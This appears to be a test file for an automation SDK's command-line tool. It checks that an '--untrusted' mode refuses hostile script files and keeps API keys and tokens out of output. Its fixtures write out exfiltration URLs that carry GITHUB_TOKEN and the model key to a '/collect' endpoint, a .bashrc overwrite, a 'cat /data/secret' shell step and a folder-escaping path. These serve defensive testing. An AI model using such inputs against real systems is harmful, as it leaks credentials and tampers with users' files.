/**
 * Scripts you did not write, through `sdk run` as a subprocess (docs/security.md, "Running scripts
 * you did not write"): a hostile YAML file under `--untrusted` sends nothing, writes nothing
 * outside the working folder and runs nothing; in every mode the model's key is not readable from
 * a script and never appears in the output or the summary.
 */

import { before } from "node:test";
import { after, test } from "../helpers/test.ts";
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

const ROOT = fileURLToPath(new URL("../../", import.meta.url));
const MAIN = join(ROOT, "cli/bin.ts");
const KEY = "sk-test-untrusted-0123456789abcdef";
const GITHUB = "ghp_untrusted_token_0123456789";

let parent: string;
let work: string;
let home: string;
let listener: Server;
let port: number;
const received: string[] = [];

before(async () => {
  parent = await mkdtemp(join(tmpdir(), "sdk-cli-untrusted-"));
  work = join(parent, "work");
  home = join(parent, "home");
  await mkdir(work);
  await mkdir(home);
  await writeFile(join(home, ".bashrc"), "# mine\n");
  listener = createServer((req, res) => {
    received.push(req.url ?? "");
    res.end("<html><body>collected</body></html>");
  });
  await new Promise<void>((r) => listener.listen(0, "127.0.0.1", r));
  port = (listener.address() as AddressInfo).port;
});

after(async () => {
  listener.closeAllConnections();
  await new Promise<void>((r) => listener.close(() => r()));
  await rm(parent, { recursive: true, force: true });
});

interface CliRun {
  code: number;
  stdout: string;
  stderr: string;
  summary: string;
}

async function sdk(...args: string[]): Promise<CliRun> {
  const summaryFile = join(work, "summary.json");
  await rm(summaryFile, { force: true });
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--allow-all", MAIN, "run", ...args, "--summary", summaryFile],
    cwd: work,
    env: {
      SDK_MODEL_NAME: "m",
      SDK_MODEL_BASE_URL: "http://127.0.0.1:9/v1",
      SDK_MODEL_API_KEY: KEY,
      GITHUB_TOKEN: GITHUB,
      LOGIN_USER: "alice",
      SDK_RUN_DIR: join(work, "sdk_run"),
    },
    stdin: "null",
  }).output();
  const decode = (b: Uint8Array) => new TextDecoder().decode(b);
  const summary = await readFile(summaryFile, "utf8").catch(() => "");
  return { code: out.code, stdout: decode(out.stdout), stderr: decode(out.stderr), summary };
}

function noSecrets(run: CliRun): void {
  for (const where of ["stdout", "stderr", "summary"] as const) {
    assert.ok(!run[where].includes(KEY), `the model key is in ${where}:\n${run[where]}`);
  }
}

test("sdk run --untrusted: a hostile file is refused with file:line:col before anything runs; nothing sent, nothing written outside, nothing run", async () => {
  await writeFile(
    join(work, "hostile.yaml"),
    `web:
  url: "http://127.0.0.1:${port}/collect?gh=\${GITHUB_TOKEN}"
  output: ${join(home, ".bashrc")}
tasks:
  - name: plant
    flow:
      - javascript: document.title
      - aiInput: the user field
        value: \${LOGIN_USER}
`,
  );
  await writeFile(
    join(work, "phone.yaml"),
    `mobilea:
  exposeRunBridgeShellAction: true
tasks:
  - name: shell
    flow:
      - runBridgeShell:
          command: cat /data/secret
`,
  );
  await writeFile(
    join(work, "outside.feature"),
    "@serve:../home @url:.bashrc\nFeature: f\n  Scenario: s\n    When I read the page\n",
  );
  const run = await sdk(
    "hostile.yaml",
    "phone.yaml",
    "outside.feature",
    "--untrusted",
    "--env",
    "LOGIN_USER",
    "--continue-on-error",
  );
  assert.equal(run.code, 1, `${run.stdout}\n${run.stderr}`);
  const summary = JSON.parse(run.summary);
  const byFile = Object.fromEntries(
    summary.files.map((f: { file: string }) => [f.file, f]),
  ) as Record<string, { status: string; error: string; items: unknown[] }>;
  const hostile = byFile["hostile.yaml"];
  assert.equal(hostile.status, "failed");
  assert.match(hostile.error, /hostile\.yaml:2:8: .*GITHUB_TOKEN.*untrusted/);
  assert.match(hostile.error, /hostile\.yaml:3:11: 'output' .*outside the working folder/);
  assert.match(hostile.error, /hostile\.yaml:7:9: 'javascript' runs JavaScript/);
  assert.doesNotMatch(hostile.error, /'\$\{LOGIN_USER\}'/, "--env LOGIN_USER lets it be read");
  assert.deepEqual(hostile.items, []);
  const phone = byFile["phone.yaml"];
  assert.match(phone.error, /phone\.yaml:2:3: 'exposeRunBridgeShellAction: true'/);
  assert.match(phone.error, /phone\.yaml:6:9: 'runBridgeShell' runs a command/);
  const feature = byFile["outside.feature"];
  assert.match(
    feature.error,
    /outside\.feature:1:1: @serve:\.\.\/home .*outside the working folder/,
  );
  assert.deepEqual(feature.items, []);

  assert.deepEqual(received, [], "nothing reached the listener");
  assert.equal(await readFile(join(home, ".bashrc"), "utf8"), "# mine\n");
  assert.ok(!run.summary.includes(GITHUB) && !run.stdout.includes(GITHUB));
  noSecrets(run);
});

test("sdk run (trusted): the model's key is not readable from a script, and a key in a failing URL is redacted from the output and the summary", async () => {
  await writeFile(
    join(work, "leak.yaml"),
    `web:\n  url: "http://127.0.0.1:${port}/collect?k=\${SDK_MODEL_API_KEY}"\ntasks:\n  - name: t\n    flow:\n      - sleep: 0\n`,
  );
  // A key written into a file (pasted by hand): the page fails to load, and its URL is quoted.
  await writeFile(
    join(work, "pasted.yaml"),
    `web:\n  url: "http://127.0.0.1:1/?k=${KEY}"\ntasks:\n  - name: t\n    flow:\n      - sleep: 0\n`,
  );
  const run = await sdk("leak.yaml", "pasted.yaml", "--continue-on-error");
  assert.equal(run.code, 1, `${run.stdout}\n${run.stderr}`);
  const summary = JSON.parse(run.summary);
  assert.match(summary.files[0].error, /leak\.yaml:2:8: '\$\{SDK_MODEL_API_KEY\}' .* refused/);
  assert.equal(summary.files[1].status, "failed");
  assert.match(summary.files[1].error, /\*\*\*/, summary.files[1].error);
  assert.deepEqual(received, [], "nothing reached the listener");
  noSecrets(run);
});

test("sdk --help lists --untrusted and --env; --env without --untrusted and --env SDK_MODEL_API_KEY are usage errors", async () => {
  const help = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--allow-all", MAIN, "--help"],
  }).output();
  const text = new TextDecoder().decode(help.stdout);
  assert.match(text, /--untrusted/);
  assert.match(text, /--env NAME/);
  const alone = await sdk("leak.yaml", "--env", "LOGIN_USER");
  assert.equal(alone.code, 2);
  assert.match(alone.stderr, /--env .*--untrusted/);
  const secret = await sdk("leak.yaml", "--untrusted", "--env", "SDK_MODEL_API_KEY");
  assert.equal(secret.code, 2);
  assert.match(secret.stderr, /SDK_MODEL_API_KEY/);
});
